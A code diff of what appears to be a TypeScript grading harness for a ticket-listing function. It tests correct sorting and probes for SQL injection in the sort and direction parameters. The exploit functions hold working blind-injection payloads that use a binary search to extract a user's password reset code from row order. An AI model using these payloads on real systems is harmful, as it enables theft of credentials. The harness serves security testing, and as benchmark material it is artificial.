@@ -12,9 +12,10 @@ const tables = (code: number) => `
 export async function works({ listTickets }: Code, vary: Vary) {
   const team = vary.number(3, 90)
   const agent = `${vary.name()} O'${vary.name()} ${vary.remark()}`
-  const [a, b, c, d] = vary.shuffle([1, 2, 3, 4]) as [number, number, number, number]
+  const start = vary.number(0, 90)
+  const [a, b, c, d] = vary.shuffle([start + 1, start + 2, start + 3, start + 4]) as [number, number, number, number]
   const quoted = agent.replaceAll("'", "''")
-  const db = createPool(`${tables(483920)} INSERT INTO tickets VALUES
+  const db = createPool(`${tables(vary.number(100_000, 999_999))} INSERT INTO tickets VALUES
     (${a}, ${team}, 'Printer', 'open', 3, '${quoted}', '2026-01-01'), (${b}, ${team}, 'Access', 'open', 1, NULL, '2026-01-02'),
     (${c}, ${team}, 'Mail', 'closed', 2, '${quoted}', '2026-01-03'), (${d}, ${team + 1}, 'Other team', 'open', 1, '${quoted}', '2026-01-04')`)
   const ids = async (query: Parameters<typeof listTickets>[2]) =>
@@ -27,6 +28,8 @@ export async function works({ listTickets }: Code, vary: Vary) {
     [a, b],
     `Sorting by priority the other way round should list ticket ${a} first.`,
   )
+  const oldest = await ids({ sort: 'created_at', direction: 'asc' })
+  assert.deepEqual(oldest, [a, b], `Sorting by date should list ticket ${a}, the older one, first.`)
   assert.deepEqual(
     await ids({ sort: 'title', direction: 'asc', status: 'open,closed' }),
     [b, c, a],
@@ -56,18 +59,27 @@ const forms: ((question: string) => { sort?: string; direction?: string })[] = [
   (question) => ({ sort: 'priority', direction: `asc\n, ${question}` }),
 ]
 
-const twins = (team: number) => `INSERT INTO tickets VALUES
-    (1, ${team}, 'A', 'open', 2, NULL, '2026-01-01'), (2, ${team}, 'B', 'open', 2, NULL, '2026-01-01')`
+/** Two tickets that no usual column tells apart. */
+const twins = (team: number, first: number, text: string) => `INSERT INTO tickets VALUES
+    (${first}, ${team}, '${text}', 'open', 2, NULL, '2026-01-01'), (${first + 1}, ${team}, '${text}', 'open', 2, NULL, '2026-01-01')`
+
+/** Whether the code is above the middle, asked with and without a word that a list may have. */
+const questions = [
+  (middle: number) => `(CASE WHEN (SELECT reset_code FROM users WHERE id = 1) > ${middle} THEN id ELSE -id END)`,
+  (middle: number) => `(id * (SELECT reset_code - ${middle}.5 FROM users))`,
+  (middle: number) => `(CASE WHEN EXISTS (SELECT 1 FROM users WHERE reset_code > ${middle}) THEN id ELSE -id END)`,
+  (middle: number) => `(COALESCE((SELECT id FROM users WHERE reset_code > ${middle}), -1) * id)`,
+]
 
 /** One question, asked with a code above and one below 500000: the order of the rows is the answer. */
 async function exploitWith({ listTickets }: Pick<Code, 'listTickets'>, vary: Vary, payloads: readonly string[]) {
-  const team = vary.number(3, 90)
+  const [team, first, title] = [vary.number(3, 90), vary.number(1, 90), vary.word()]
   for (const payload of payloads) {
     for (const query of [{ sort: payload }, { sort: payload, direction: 'asc' }, { sort: 'priority', direction: payload }]) {
       const ask = async (code: number) =>
-        (await listTickets(createPool(tables(code) + twins(team)), team, query).catch(() => []))[0]?.id
+        (await listTickets(createPool(tables(code) + twins(team, first, title)), team, query).catch(() => []))[0]?.id
       const answers = [await ask(vary.number(100_000, 400_000)), await ask(vary.number(600_000, 900_000))]
-      if (answers[0] !== answers[1]) return { sent: payload, got: 'another order of the rows' }
+      if (answers[0] !== answers[1]) return { sent: payload, got: `another order of the rows when the reset code is another`, damage: 'Each order answers a question about a value that the list never shows.' }
     }
   }
   return false
@@ -76,22 +88,25 @@ async function exploitWith({ listTickets }: Pick<Code, 'listTickets'>, vary: Var
 export async function exploit({ listTickets }: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> {
   if (payloads) return exploitWith({ listTickets }, vary, payloads)
   const code = vary.number(100_000, 999_999)
-  const team = vary.number(3, 90)
-  const db = createPool(tables(code) + twins(team))
-  const ask = (middle: number) =>
-    `(CASE WHEN (SELECT reset_code FROM users WHERE id = 1) > ${middle} THEN id ELSE -id END)`
-  for (const form of forms) {
+  const [team, first] = [vary.number(3, 90), vary.number(1, 90)]
+  const db = createPool(tables(code) + twins(team, first, vary.word()))
+  const ask = vary.pick(questions)
+  for (const form of vary.shuffle(forms)) {
     try {
       let [low, high] = [0, 999_999]
       while (low < high) {
         const middle = Math.floor((low + high) / 2)
-        const [first] = await listTickets(db, team, form(ask(middle)))
-        if (first?.id === 1) low = middle + 1
+        const [top] = await listTickets(db, team, form(ask(middle)))
+        if (top?.id === first) low = middle + 1
         else high = middle
       }
       if (low === code) {
         const { sort = '', direction = '' } = form(ask(500_000))
-        return { sent: `sort=${sort}&direction=${direction}`, got: `20 answers gave away the reset code ${low}` }
+        return {
+          sent: `20 requests such as sort=${JSON.stringify(sort)}, direction=${JSON.stringify(direction)}`,
+          got: `two tickets in an order that depends on each question`,
+          damage: `The answers halved what was possible until only one number was left: ${low}, somebody's reset code.`,
+        }
       }
     } catch {
       // Refused; the next form may be not.
@@ -113,7 +128,7 @@ const orderFor = async ({ listTickets }: Code, query: { sort: string; direction:
 }
 
 /** The same input against databases that differ in one value only. Run twice, because `random()` reads nothing. */
-export async function attack(code: Code, input: { sort: string; direction: string }, vary: import('#proof/vary').Vary) {
+export async function attack(code: Code, input: { sort: string; direction: string }, vary: Vary) {
   const resetCodes = [vary.number(100_000, 250_000), vary.number(400_000, 600_000), vary.number(750_000, 999_999)]
   try {
     const lines: string[] = []
